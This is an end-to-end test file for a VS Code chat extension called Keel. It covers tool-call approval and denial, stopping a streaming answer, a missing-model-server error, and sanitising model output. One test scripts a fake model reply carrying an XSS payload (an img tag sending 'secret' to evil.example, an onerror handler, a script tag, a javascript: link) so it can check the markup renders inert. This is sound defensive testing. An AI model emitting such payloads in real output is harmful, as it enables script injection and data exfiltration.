// The whole product path in real VS Code: Chromium drives code-server with Keel's VSIX
// installed; the extension talks HTTP to a model double running in this process.
import * as assert from 'assert';
import { text, toolCalls, withFaults } from '../support/modelDouble';
import { ask, freshChat, testId, useKeel, useModelDouble } from './harness';

describe('Keel chat in VS Code (e2e)', function () {
	this.timeout(180_000);
	const double = useModelDouble();

	const keel = useKeel(() => ({
		// Reads ask here too, so both Approve and Deny can be driven on a file read.
		settings: { 'keel.model.baseUrl': double().openaiBaseUrl, 'keel.approval.autoApproveReads': false },
	}));

	beforeEach(async () => {
		double().reset();
		await freshChat(keel);
	});

	it('streams an answer grounded in a file read the user approved on its card', async () => {
		double().script(
			toolCalls([{ name: 'read_file', arguments: { path: 'README.md' } }], { split: 4, delayMs: 20 }),
			text('The README says:\n\n```\n{{lastToolResult}}\n```', { chunks: 6, delayMs: 30 }),
		);
		const chat = await keel.webview();
		await ask(chat, 'What does the README say?');
		const card = chat.locator(testId('tool-card'));
		await card.waitFor();
		await chat.locator(`${testId('tool-card')}[data-status="awaitingApproval"]`).waitFor();
		assert.strictEqual(await card.locator(testId('tool-title')).textContent(), 'Read README.md');
		assert.match((await card.locator(testId('tool-arguments')).textContent()) ?? '', /"path": "README.md"/);
		assert.strictEqual(
			await chat.locator(testId('message-assistant')).count(),
			0,
			'nothing is answered before approval',
		);
		await card.locator(testId('tool-approve')).click();
		await chat.locator(`${testId('tool-card')}[data-status="succeeded"]`).waitFor();
		assert.strictEqual(await card.locator(testId('tool-status')).textContent(), 'done');
		assert.match((await card.locator(`${testId('tool-output')} pre`).textContent()) ?? '', /# Fixture workspace/);
		const answer = chat.locator(`${testId('message-assistant')}[data-streaming="false"]`);
		await answer.waitFor();
		assert.match((await answer.locator('pre').textContent()) ?? '', /1 {2}# Fixture workspace/);
		assert.strictEqual(
			await chat.locator(testId('tool-approve')).count(),
			0,
			'the decision buttons are gone once decided',
		);
		await keel.screenshot('chat-approved-read');
	});

	it('tells the model a denied read did not run, and shows its answer', async () => {
		double().script(
			toolCalls([{ name: 'read_file', arguments: { path: 'src/app.ts' } }]),
			text('I could not read it: {{lastToolResult}}'),
		);
		const chat = await keel.webview();
		await ask(chat, 'Read src/app.ts');
		await chat.locator(`${testId('tool-card')}[data-status="awaitingApproval"]`).waitFor();
		await chat.locator(testId('tool-deny-reason')).fill('keep that file private');
		await chat.locator(testId('tool-deny')).click();
		await chat.locator(`${testId('tool-card')}[data-status="denied"]`).waitFor();
		const answer = chat.locator(`${testId('message-assistant')}[data-streaming="false"]`);
		await answer.waitFor();
		assert.match(
			(await answer.textContent()) ?? '',
			/I could not read it: The user denied this call; it did not run\. Reason: keep that file private/,
		);
		const sent = double().modelRequests[1].body.messages.find((m: { role: string }) => m.role === 'tool');
		assert.match(sent.content, /denied/);
		await keel.screenshot('chat-denied-read');
	});

	it('renders model markup as inert text: no script, no event handler, no remote image', async () => {
		double().script(
			text(
				'Look: <img src="https://evil.example/x.png?d=secret" onerror="document.title=\'pwned\'"> <script>document.title="pwned"</script> [link](javascript:alert(1)) done',
			),
		);
		const chat = await keel.webview();
		await ask(chat, 'say something nasty');
		const answer = chat.locator(`${testId('message-assistant')}[data-streaming="false"]`);
		await answer.waitFor();
		assert.match((await answer.textContent()) ?? '', /done/);
		assert.strictEqual(await answer.locator('script').count(), 0);
		assert.strictEqual(await answer.locator('[onerror]').count(), 0);
		assert.strictEqual(await answer.locator('img[src^="https:"]').count(), 0);
		assert.strictEqual(await answer.locator('a[href^="javascript:"]').count(), 0);
		assert.notStrictEqual(await chat.evaluate('document.title'), 'pwned');
	});

	it('stops a running answer with the stop button and keeps what was shown', async () => {
		double().script(
			withFaults(text('Counting one two three four five six seven eight', { chunks: 8 }), { stallAfter: 3 }),
		);
		const chat = await keel.webview();
		await ask(chat, 'count slowly');
		await chat.locator(testId('message-assistant')).waitFor();
		await chat.locator(testId('stop')).click();
		await chat.locator(testId('send')).waitFor();
		const answer = chat.locator(testId('message-assistant'));
		assert.match((await answer.textContent()) ?? '', /Counting/);
		assert.strictEqual(await chat.locator(testId('error-banner')).count(), 0, 'a stop is not an error');
	});
});

describe('Keel chat without a model server (e2e)', function () {
	this.timeout(180_000);
	const keel = useKeel({ settings: { 'keel.model.baseUrl': 'http://127.0.0.1:9/v1' } });

	it('says in the chat how to get a model server running', async () => {
		const chat = await keel.openKeel();
		await chat.locator(testId('prompt-input')).fill('hello');
		await chat.locator(testId('send')).click();
		const banner = chat.locator(testId('error-banner'));
		await banner.waitFor();
		const said = (await banner.textContent()) ?? '';
		assert.match(said, /No model server answered at http:\/\/127\.0\.0\.1:9\/v1 — .*keel\.model\.baseUrl/);
		// code-server is a remote window (the browser is the user's side): 127.0.0.1 is the server's machine.
		assert.match(
			said,
			/Keel runs in .+, so 127\.0\.0\.1 is that remote machine, not your own: .*run the model server there/,
		);
		await keel.screenshot('chat-no-model-server');
	});
});
